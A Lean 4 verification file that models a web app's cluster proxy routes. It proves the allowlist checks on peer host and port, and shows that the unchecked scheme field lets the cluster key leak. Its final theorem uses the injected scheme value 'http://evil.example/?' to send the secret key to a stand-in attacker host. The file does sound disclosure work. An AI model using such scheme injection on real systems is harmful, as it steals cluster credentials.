import Ser2Net.Engine.Cluster

namespace Ser2Net.Web.Cluster

open Ser2Net.Lib Ser2Net.Config Ser2Net.Engine.Cluster

/-!
# Web — the cluster proxy routes

The browser-facing routes of `routes/cluster.py` that act on a peer: `control-peer`,
`peer-form` and `peer-save`.  Each checks host and port of the request against the allowlist
of known peers, and then sends requests with the cluster key, to a URL put together from the
request's scheme, host and port.

* `clusterControlPeer`, `clusterPeerForm`, `clusterPeerSave` — the three routes, with the
  requests they make and their response;
* `asked_spec` — host and port of every request that a route makes have been checked;
* `sent_toKnown_iff` — the scheme has not, nor where redirects lead: everything that is sent
  goes to known peers exactly when the scheme text fits and every redirect names a known peer;
* `scheme_redirects_key` — a scheme that takes the cluster key to another host.
-/

/-- Form fields or query parameters, in the order they were sent. -/
abbrev Form := List (String × String)

/-- `form.get(k, default)`: the last value of a repeated field. -/
def Form.get (form : Form) (k default : String) : String :=
  (List.lookup k form.reverse).getD default

/-- What the browser is answered. -/
inductive Response
  /-- `PlainTextResponse`. -/
  | text (message : String) (status : Nat)
  /-- The empty response that makes the page reload the cluster table. -/
  | refreshCluster
  /-- The edit form of a peer's mapping, with the peer it belongs to. -/
  | mappingForm (status : Nat) (mapping : MappingConfig) (remote : String × String × Int)
      (error : Json)
  /-- An exception the route does not catch. -/
  | raised (e : PyExc ConfigError)

/-- A handled request: the peer table it leaves behind, the requests it makes to peers, and its
    response. -/
structure Outcome where
  discovery : Discovery
  asked : List PeerRequest
  response : Response

/-- All requests that leave this node, those that follow redirects among them. -/
def Outcome.sent (reply : PeerRequest → Answer) (o : Outcome) : List PeerRequest :=
  o.asked.flatMap fun r => (urlopen (reply r) r).sent

/-- The fields that `peer-save` does not forward. -/
def skip : List String :=
  ["_peer_scheme", "_peer_host", "_peer_port", "_csrf", "scheme", "host", "port"]

/-- The members of `(data or {})`, an answer that `.get` is called on. -/
def membersOf (data : Option Json) : CfgM (List (String × Json)) :=
  match data with
  | none => .ok []
  | some v =>
    if !v.truthy then .ok []
    else match v with
      | .obj members => .ok members
      | _ => .error .attributeError

/-- `res and res.get("ok")`. -/
def accepted (res : Option Json) : CfgM Bool :=
  (membersOf res).map fun members => (Json.get members "ok" .null).truthy

/-- `data["mapping"]` after the test `not data or "mapping" not in data`; `none` is the test's
    own answer.  A text or a list may pass the test, and then has no members. -/
def mappingOf (data : Option Json) : CfgM (Option Json) :=
  match data with
  | none => .ok none
  | some v =>
    if !v.truthy then .ok none
    else match v with
      | .obj members => .ok (Json.lookup members "mapping")
      | .arr l => if l.any (·.pyEq (.str "mapping")) then .error .typeError else .ok none
      | .str s =>
        if (PyText.partitionAt "mapping".toList s.toList).isSome then .error .typeError
        else .ok none
      | _ => .error .typeError

/-- `(res or {}).get("error") or _("The peer rejected the change or was unreachable.")`. -/
def saveError (res : Option Json) : CfgM Json :=
  (membersOf res).map fun members =>
    orElse (Json.get members "error" .null)
      (.str "The peer rejected the change or was unreachable.")

section Routes

variable (m : Platform) (now : Rat)
/- What is answered to the requests of a route, with the redirects on the way. -/
variable (reply : PeerRequest → Answer)
/- What `require_peer_access` answers to a browser without a signed-in operator. -/
variable (deny : Option Response)

/-- The JSON that a request gets. -/
def answered (r : PeerRequest) : Option Json := (urlopen (reply r) r).data

/-- `cluster_control_peer`. -/
def clusterControlPeer (d : Discovery) (form : Form) : Outcome :=
  match deny with
  | some response => ⟨d, [], response⟩
  | none =>
    let scheme := form.get "scheme" "http"
    let host := form.get "host" ""
    let action := form.get "action" ""
    let mid := form.get "mid" ""
    match PyText.int (form.get "port" "0") with
    | none => ⟨d, [], .text "Bad port" 400⟩
    | some port =>
      if action ∉ ["start", "stop", "restart"] then ⟨d, [], .text "Unknown action" 400⟩
      else if !d.knows m.py now host port then
        ⟨d.prune now, [], .text "Unknown cluster peer" 403⟩
      else
        let r := d.controlPeer scheme host port mid action
        ⟨d.prune now, [r],
          match accepted (answered reply r) with
          | .ok true => .refreshCluster
          | .ok false => .text "Peer did not accept the command (unreachable or rejected)." 502
          | .error e => .raised e⟩

/-- `_peer_from_request`: the peer, or the response and what the check left behind. -/
def peerFromRequest (d : Discovery) (form : Form) : Except Outcome (String × String × Int) :=
  let scheme := form.get "scheme" "http"
  let host := form.get "host" ""
  match PyText.int (form.get "port" "0") with
  | none => .error ⟨d, [], .text "Bad peer port" 400⟩
  | some port =>
    if !d.knows m.py now host port then
      .error ⟨d.prune now, [], .text "Unknown cluster peer" 403⟩
    else .ok (scheme, host, port)

/-- `cluster_peer_form`; `newId` is the id that a mapping without one gets. -/
def clusterPeerForm (newId : String) (d : Discovery) (query : Form) : Outcome :=
  match deny with
  | some response => ⟨d, [], response⟩
  | none =>
    match peerFromRequest m now d query with
    | .error outcome => outcome
    | .ok (scheme, host, port) =>
      let mid := query.get "mid" ""
      let r := d.getPeer scheme host port ("/api/cluster/mapping-data?mid=" ++ mid)
      ⟨d.prune now, [r],
        match mappingOf (answered reply r) with
        | .error e => .raised e
        | .ok none => .text "Could not load the peer's mapping." 502
        | .ok (some v) =>
          match MappingConfig.fromDict m newId v with
          | .error e => .raised e
          | .ok mapping => .mappingForm 200 mapping (scheme, host, port) .null⟩

/-- `cluster_peer_save`; `rebuilt` is the mapping that the form is shown with again, from its
    own fields and the peer's data. -/
def clusterPeerSave (rebuilt : Option Json → MappingConfig) (d : Discovery) (form : Form) :
    Outcome :=
  match deny with
  | some response => ⟨d, [], response⟩
  | none =>
    match peerFromRequest m now d form with
    | .error outcome => outcome
    | .ok (scheme, host, port) =>
      let fields := form.filter fun f => f.1 ∉ skip
      let save := d.postPeer scheme host port "/api/cluster/mapping-save" fields
      match accepted (answered reply save) with
      | .error e => ⟨d.prune now, [save], .raised e⟩
      | .ok true => ⟨d.prune now, [save], .refreshCluster⟩
      | .ok false =>
        -- the peer's data is fetched again to fill in what the form does not show
        let load := d.getPeer scheme host port
          ("/api/cluster/mapping-data?mid=" ++ form.get "id" "")
        ⟨d.prune now, [save, load],
          match saveError (answered reply save), membersOf (answered reply load) with
          | .ok msg, .ok _ =>
            .mappingForm 400 (rebuilt (answered reply load)) (scheme, host, port) msg
          | .error e, _ | _, .error e => .raised e⟩

/-- The browser-facing routes that act on a peer. -/
inductive Route
  | controlPeer
  | peerForm (newId : String)
  | peerSave (rebuilt : Option Json → MappingConfig)

/-- A request to one of the routes. -/
def serve (route : Route) (d : Discovery) (form : Form) : Outcome :=
  match route with
  | .controlPeer => clusterControlPeer m now reply deny d form
  | .peerForm newId => clusterPeerForm m now reply deny newId d form
  | .peerSave rebuilt => clusterPeerSave m now reply deny rebuilt d form

/-! ### What the routes ask -/

/-- The request carries the cluster key, and host and port of its URL are those of the
    browser's request, checked against the allowlist. -/
def Checked (d : Discovery) (form : Form) (r : PeerRequest) : Prop :=
  r.clusterKey = d.cluster.key ∧
  ∃ port path, PyText.int (form.get "port" "0") = some port ∧
    (form.get "host" "", port) ∈ d.knownAddresses m.py now ∧
    r.url = peerUrl (form.get "scheme" "http") (form.get "host" "") port ("/" ++ path)

variable {m now}

/-- A request that passes `_peer_from_request` names a known address. -/
theorem peerFromRequest_ok {d : Discovery} {form : Form} {scheme host : String} {port : Int}
    (h : peerFromRequest m now d form = .ok (scheme, host, port)) :
    scheme = form.get "scheme" "http" ∧ host = form.get "host" "" ∧
      PyText.int (form.get "port" "0") = some port ∧ (host, port) ∈ d.knownAddresses m.py now := by
  unfold peerFromRequest at h
  simp only at h
  split at h
  · cases h
  · next p hp =>
    split at h
    · cases h
    · next hknown =>
      cases h
      exact ⟨rfl, rfl, hp, knows_iff.1 (by simpa using hknown)⟩

/-- A request that does not pass it sends nothing. -/
theorem peerFromRequest_error {d : Discovery} {form : Form} {o : Outcome}
    (h : peerFromRequest m now d form = .error o) : o.asked = [] := by
  unfold peerFromRequest at h
  simp only at h
  split at h
  · cases h
    rfl
  · split at h
    · cases h
      rfl
    · cases h

variable {reply deny}

/-- `control-peer` asks known addresses only. -/
theorem clusterControlPeer_spec {d : Discovery} {form : Form} :
    ∀ r ∈ (clusterControlPeer m now reply deny d form).asked, Checked m now d form r := by
  unfold clusterControlPeer
  intro r hr
  split at hr
  · exact absurd hr List.not_mem_nil
  · simp only at hr
    split at hr
    · exact absurd hr List.not_mem_nil
    · next port hport =>
      split at hr
      · exact absurd hr List.not_mem_nil
      · split at hr
        · exact absurd hr List.not_mem_nil
        · next hknown =>
          -- the only request: a control call to the checked address
          rw [List.mem_singleton] at hr
          subst hr
          exact ⟨rfl, port, "api/cluster/control", hport, knows_iff.1 (by simpa using hknown), rfl⟩

/-- `peer-form` asks known addresses only. -/
theorem clusterPeerForm_spec {newId : String} {d : Discovery} {query : Form} :
    ∀ r ∈ (clusterPeerForm m now reply deny newId d query).asked, Checked m now d query r := by
  unfold clusterPeerForm
  intro r hr
  split at hr
  · exact absurd hr List.not_mem_nil
  · split at hr
    · next o ho =>
      rw [peerFromRequest_error ho] at hr
      exact absurd hr List.not_mem_nil
    · next scheme host port hok =>
      obtain ⟨rfl, rfl, hport, hknown⟩ := peerFromRequest_ok hok
      rw [List.mem_singleton] at hr
      subst hr
      refine ⟨rfl, port, "api/cluster/mapping-data?mid=" ++ query.get "mid" "", hport, hknown, ?_⟩
      show peerUrl _ _ port ("/api/cluster/mapping-data?mid=" ++ _) = _
      rw [← String.append_assoc]
      rfl

/-- `peer-save` asks known addresses only. -/
theorem clusterPeerSave_spec {rebuilt : Option Json → MappingConfig} {d : Discovery} {form : Form} :
    ∀ r ∈ (clusterPeerSave m now reply deny rebuilt d form).asked, Checked m now d form r := by
  unfold clusterPeerSave
  intro r hr
  split at hr
  · exact absurd hr List.not_mem_nil
  · split at hr
    · next o ho =>
      rw [peerFromRequest_error ho] at hr
      exact absurd hr List.not_mem_nil
    · next scheme host port hok =>
      obtain ⟨rfl, rfl, hport, hknown⟩ := peerFromRequest_ok hok
      -- the forwarded form is sent in every case, the second request only after a refusal
      have hsave : Checked m now d form (d.postPeer (form.get "scheme" "http")
          (form.get "host" "") port "/api/cluster/mapping-save"
          (form.filter fun f => f.1 ∉ skip)) :=
        ⟨rfl, port, "api/cluster/mapping-save", hport, hknown, rfl⟩
      have hload : Checked m now d form (d.getPeer (form.get "scheme" "http")
          (form.get "host" "") port ("/api/cluster/mapping-data?mid=" ++ form.get "id" "")) := by
        refine ⟨rfl, port, "api/cluster/mapping-data?mid=" ++ form.get "id" "", hport, hknown, ?_⟩
        show peerUrl _ _ port ("/api/cluster/mapping-data?mid=" ++ _) = _
        rw [← String.append_assoc]
        rfl
      simp only at hr
      split at hr
      · rw [List.mem_singleton] at hr
        exact hr ▸ hsave
      · rw [List.mem_singleton] at hr
        exact hr ▸ hsave
      · rcases List.mem_cons.1 hr with rfl | hr
        · exact hsave
        · rw [List.mem_singleton] at hr
          exact hr ▸ hload

/-- **What the routes check.**  Every request a route makes carries the cluster key and goes to
    a URL made of the browser's scheme and of a host and port on the allowlist. -/
theorem asked_spec {route : Route} {d : Discovery} {form : Form} :
    ∀ r ∈ (serve m now reply deny route d form).asked, Checked m now d form r := by
  cases route with
  | controlPeer => exact clusterControlPeer_spec
  | peerForm newId => exact clusterPeerForm_spec
  | peerSave rebuilt => exact clusterPeerSave_spec

/-- Where nothing is asked nothing is sent. -/
theorem sent_of_asked_nil {o : Outcome} (h : o.asked = []) : o.sent reply = [] := by
  rw [Outcome.sent, h, List.flatMap_nil]

/-- What is sent goes to URLs as it should when what is asked does, and the redirects do. -/
theorem forall_sent {o : Outcome} {p : String → Prop} :
    (∀ r ∈ o.sent reply, p r.url) ↔
      (∀ q ∈ o.asked, p q.url) ∧ ∀ q ∈ o.asked, ∀ u ∈ redirectedTo (reply q) q, p u := by
  rw [Outcome.sent, List.forall_mem_flatMap, ← forall₂_and]
  exact forall₂_congr fun q _ => forall_urlopen_sent

end Routes

/-- **Where the cluster key goes.**  For every peer table, list of manual peers, browser request
    and answers to what is sent: everything that leaves this node for a route carries the
    cluster key, and all of it goes to HTTP URLs in which a parser reads a known address if and
    only if the scheme text fits the host and port it was put in front of, and every redirect
    that is followed leads to a known address.  A route that asks nothing sends nothing. -/
theorem sent_toKnown_iff (m : Platform) (now : Rat) (reply : PeerRequest → Answer)
    (deny : Option Response) (route : Route) (d : Discovery) (form : Form)
    (hplain : ∀ a ∈ d.knownAddresses m.py now, Uri.PlainHost a.1.toList) :
    let o := serve m now reply deny route d form
    let known := d.knownAddresses m.py now
    (∀ r ∈ o.sent reply, r.clusterKey = d.cluster.key) ∧
      (o.asked = [] → o.sent reply = []) ∧
      (o.asked ≠ [] → ∃ port, PyText.int (form.get "port" "0") = some port ∧
        ((∀ r ∈ o.sent reply, ToKnown known r.url.toList) ↔
          SchemeFits known (form.get "scheme" "http") (form.get "host" "") port ∧
            ∀ q ∈ o.asked, ∀ u ∈ redirectedTo (reply q) q, ToKnown known u.toList)) := by
  intro o known
  have hspec : ∀ q ∈ o.asked, Checked m now d form q := asked_spec
  refine ⟨fun r hr => ?_, sent_of_asked_nil, fun hne => ?_⟩
  · obtain ⟨q, hq, hr⟩ := List.mem_flatMap.1 hr
    exact (urlopen_key hr).trans (hspec q hq).1
  · obtain ⟨first, hfirst⟩ := List.exists_mem_of_ne_nil _ hne
    obtain ⟨-, port, -, hport, -⟩ := hspec first hfirst
    -- the requests of a route differ in the path only: they all go where the scheme takes them
    have hasked : ∀ q ∈ o.asked, ToKnown known q.url.toList ↔
        SchemeFits known (form.get "scheme" "http") (form.get "host" "") port := by
      intro q hq
      obtain ⟨-, port', path, hport', hknown, hurl⟩ := hspec q hq
      obtain rfl : port' = port := Option.some.inj (hport'.symm.trans hport)
      rw [hurl]
      exact toKnown_peerUrl_iff path (hplain _ hknown) hknown
    refine ⟨port, hport, (forall_sent (p := fun u => ToKnown known u.toList)).trans ?_⟩
    refine and_congr_left' ?_
    constructor
    · intro h
      exact (hasked first hfirst).1 (h first hfirst)
    · intro h q hq
      exact (hasked q hq).2 h

/-- A node with one manual peer and nothing discovered. -/
def oneManualPeer : Discovery where
  cluster := ⟨.bool true, .str "secret", .int 41750, .str "", ["10.0.0.2:8080"]⟩
  table := []

/-- The browser asks for a restart on the known peer, with the given scheme. -/
def restartForm (scheme : String) : Form :=
  [("scheme", scheme), ("host", "10.0.0.2"), ("port", "8080"), ("mid", "plc1"),
    ("action", "restart")]

/-- The addresses of the example. -/
theorem oneManualPeer_known :
    oneManualPeer.knownAddresses bareMachine.py 0 = [("10.0.0.2", 8080)] := by
  decide +kernel

/-- Its hosts are plain. -/
theorem oneManualPeer_plain :
    ∀ a ∈ oneManualPeer.knownAddresses bareMachine.py 0, Uri.PlainHost a.1.toList := by
  intro a ha
  rw [oneManualPeer_known, List.mem_singleton] at ha
  subst ha
  constructor
  · simp [Uri.isDelim]
  · exact Or.inl (by simp)

/-- The request that a restart on the known peer makes. -/
def restartRequest (scheme : String) : PeerRequest :=
  oneManualPeer.controlPeer scheme "10.0.0.2" 8080 "plc1" "restart"

/-- A peer that redirects every request to its own HTTPS port. -/
def toHttps : PeerRequest → Answer :=
  fun _ => ⟨[⟨302, some "https://10.0.0.2:8080/api/cluster/control"⟩], none⟩

/-- A restart over HTTP, redirected to HTTPS at the same address: both requests are to the
    known peer. -/
theorem sent_toKnown_iff_https :
    ((serve bareMachine 0 toHttps none .controlPeer oneManualPeer
      (restartForm "http")).sent toHttps).length = 2 ∧
    ∀ r ∈ (serve bareMachine 0 toHttps none .controlPeer oneManualPeer
      (restartForm "http")).sent toHttps, ToKnown [("10.0.0.2", 8080)] r.url.toList := by
  have hasked : (serve bareMachine 0 toHttps none .controlPeer oneManualPeer
      (restartForm "http")).asked = [restartRequest "http"] := by
    decide +kernel
  refine ⟨by decide +kernel, ?_⟩
  obtain ⟨-, -, hiff⟩ := sent_toKnown_iff bareMachine 0 toHttps none .controlPeer oneManualPeer
    (restartForm "http") oneManualPeer_plain
  obtain ⟨port, hport, hiff⟩ := hiff (by rw [hasked]; exact List.cons_ne_nil _ _)
  have hport' : PyText.int ((restartForm "http").get "port" "0") = some 8080 := by decide +kernel
  obtain rfl : port = 8080 := Option.some.inj (hport.symm.trans hport')
  rw [oneManualPeer_known] at hiff
  refine hiff.2 ⟨Or.inl (by decide +kernel), ?_⟩
  rw [hasked]
  decide +kernel

/-- A scheme that holds a whole URL takes the cluster key to another host: what was checked is
    behind its question mark. -/
theorem scheme_redirects_key :
    ∃ r ∈ (serve bareMachine 0 (fun _ => ⟨[], none⟩) none .controlPeer oneManualPeer
        (restartForm "http://evil.example/?")).sent (fun _ => ⟨[], none⟩),
      r.clusterKey = .str "secret" ∧
      Uri.httpAddress r.url.toList = some ("evil.example".toList, 80) ∧
      ¬ ToKnown (oneManualPeer.knownAddresses bareMachine.py 0) r.url.toList ∧
      (∀ a ∈ oneManualPeer.knownAddresses bareMachine.py 0, Uri.PlainHost a.1.toList) := by
  refine ⟨restartRequest "http://evil.example/?", by decide +kernel, rfl, by decide +kernel, ?_,
    oneManualPeer_plain⟩
  rw [oneManualPeer_known]
  decide +kernel

end Ser2Net.Web.Cluster
